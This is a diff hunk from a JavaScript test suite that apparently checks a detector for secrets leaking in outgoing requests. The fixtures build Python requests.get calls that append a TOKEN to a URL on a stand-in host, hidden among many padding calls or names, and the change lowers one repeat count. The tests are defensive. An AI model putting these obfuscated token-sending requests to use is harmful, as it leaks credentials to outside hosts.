@@ -23,7 +23,7 @@ describe('a secret in what is asked for', () => {
     const commands = [
       python(`${IMPORTS}requests.get("http://h/"+${calls(40, '+')}+${TOKEN})`),
       python(`${IMPORTS}requests.get("http://h/"+${TOKEN}+"/"+${calls(40, '+"/"+')})`),
-      python(`${IMPORTS}requests.get("http://h/"+${TOKEN}+"/"+${calls(1_500, '+"/"+')})`),
+      python(`${IMPORTS}requests.get("http://h/"+${TOKEN}+"/"+${calls(800, '+"/"+')})`),
       python(`${IMPORTS}requests.get("http://h/"+"".join([${calls(40, ',')},${TOKEN}]))`),
       python(`${IMPORTS}requests.get("http://h/"+"/".join([${names(200)},${TOKEN}]))`),
       python(`${IMPORTS}requests.get(f"http://h/${many(40, (i) => `{f${i}()}`, '/')}/{${TOKEN}}")`),
